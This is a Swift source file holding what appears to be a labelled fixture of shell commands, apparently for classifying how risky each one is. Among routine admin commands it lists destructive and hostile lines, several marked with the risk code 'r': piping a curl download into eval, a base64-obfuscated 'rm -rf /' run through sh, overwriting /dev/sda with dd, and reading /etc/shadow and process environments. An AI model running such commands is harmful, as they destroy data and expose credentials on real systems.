extension FamilyCommands {
    static let files = #"""
        g ls -la /var/log
        g cat /etc/os-release
        g head -n 50 /var/log/syslog
        g tail -100 /var/log/nginx/error.log
        gy tail -f /var/log/syslog
        gy tail -F /var/log/syslog
        g less /var/log/syslog
        g grep -rn "timeout" /etc/nginx
        g zgrep -c ERROR /var/log/app.log.2.gz
        g zcat x.gz | wc -l
        g awk '{print $1}' access.log | sort | uniq -c | sort -rn | head
        g awk -F: '$3>=1000{print $1}' /etc/passwd
        g sed -n '10,20p' f
        y sed -i 's/a/b/' f
        g sed 's/a/b/' f
        g cut -d: -f1 /etc/passwd
        g jq -r '.items[] | .name' x.json
        g yq e '.a' x.yml
        y yq -i '.a=1' x.yml
        g stat f
        g file f
        g md5sum f
        g sha256sum -c sums
        g diff -u a b
        g wc -l f
        g find /var/log -name '*.log' -mtime +7
        g find /var/log -type f -size +100M -exec ls -lh {} +
        r find /srv/data -type f -mtime +30 -delete
        yr find /tmp -name '*.tmp' -mtime +3 -exec rm {} +
        r find /srv -name core -print0 | xargs -0 rm -f
        g locate nginx.conf
        g which nginx
        g readlink -f /usr/bin/java
        g realpath x
        g tree -L 2 /etc
        r rm -rf /srv/app/releases/old
        r rm /etc/nginx/sites-enabled/x
        yr rm -rf /tmp/build
        yr rm /var/log/app.log.1.gz
        y rmdir x
        y mkdir -p /srv/x
        y touch x
        y cp a b
        y cp -r a b
        y mv a b
        y ln -sfn /srv/v2 /srv/current
        yr truncate -s 0 /var/log/app.log
        yr > /var/log/app.log
        y echo x >> /etc/hosts
        y echo x | tee -a f
        r echo x > /etc/passwd
        y chmod 644 f
        y chown app:app f
        r chmod -R 777 /
        r chown -R app /etc
        y tar czf b.tgz /etc/nginx
        g tar tzf b.tgz
        y tar xzf b.tgz -C /tmp/x
        y gzip f
        g gzip -l f.gz
        y gunzip f.gz
        y unzip x.zip
        g unzip -l x.zip
        y zip -r x.zip d
        y rsync -av a/ host:/b/
        g rsync -avn a/ b/
        r rsync -av --delete a/ b/
        y scp f host:/tmp/
        y sftp host
        gy ssh host uptime
        gy ssh -o ConnectTimeout=5 web1 'df -h | tail -3'
        y ssh host
        r ssh host 'sudo rm -rf /srv/data'
        y ssh host 'sudo systemctl restart nginx'
        g sort f | uniq -d
        y sort -o f f
        g tr a-z A-Z < f
        g xxd f | head
        g strings f | head
        g base64 f
        g comm -3 a b
        g paste a b
        g column -t f
        g nl f
        g date -u +%FT%TZ
        g date -d @1700000000
        y date -s '2024-01-01'
        g cal
        g seq 1 5
        g env -i bash -c 'echo hi'
        g echo hello
        g printf '%s\n' a
        g true
        g sleep 5
        g test -f x && echo yes
        g [ -d /srv ] && ls /srv
        g basename /a/b
        g getfacl f
        y setfacl -m u:bob:r f
        g lsattr f
        yr chattr +i f
        y dos2unix f
        y patch -p1 < x.diff
        g patch --dry-run -p1 < x.diff
        y split -l 100 f
        g iconv -f utf8 -t latin1 f
        gy watch -n 2 'kubectl get pods'
        gy watch -n 1 df -h
        g timeout 10 curl -s localhost
        y nohup ./run.sh &
        y screen -S x
        y tmux attach
        g tmux ls
        gy history | tail
        g man ls
        g type ls
        gy export KUBE_EDITOR=vim
        gy export NAMESPACE=shop
        gy POD=$(kubectl get pod -l app=x -o name | head -1)
        gy NS=shop; kubectl get pods -n $NS
        gy cd /srv/app && ls
        gy set -euo pipefail
        gy alias k=kubectl
        gy export PGPASSWORD=x
        gy unset HTTP_PROXY
        gy env | grep HTTP
        gy printenv PATH
        g cat /etc/resolv.conf /etc/hosts
        gy cat ~/.kube/config
        gy cat /etc/shadow
        g lsof +L1
        g ncdu --version
        gy cat /proc/1/environ
        g openssl dgst -sha256 f
        y install -m 755 a b
        r shred f
        y vim /etc/hosts
        y nano f
        yr crontab < f
        r dd if=f of=/dev/sda
        g python3 -c 'print(1+1)'
        gy python3 -m json.tool x.json
        y python3 script.py
        yr python3 -c 'import os; os.remove("f")'
        yr perl -pi -e 's/a/b/' f
        g perl -ne 'print if /x/' f
        y ruby script.rb
        yr ./cleanup.sh
        yr bash /opt/x.sh
        yr source env.sh
        r eval "$(curl -s http://x)"
        r echo cm0gLXJmIC8= | base64 -d | sh
        g if systemctl is-active -q nginx; then echo up; else echo down; fi
        g for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code}\n' localhost; done
        gy while true; do date; sleep 5; done
        g for h in web1 web2; do dig +short $h; done
        gy for h in web1 web2; do ssh $h uptime; done
        r for d in /srv/*; do rm -rf "$d"; done
        y for s in a b; do systemctl restart $s; done
        """#
}
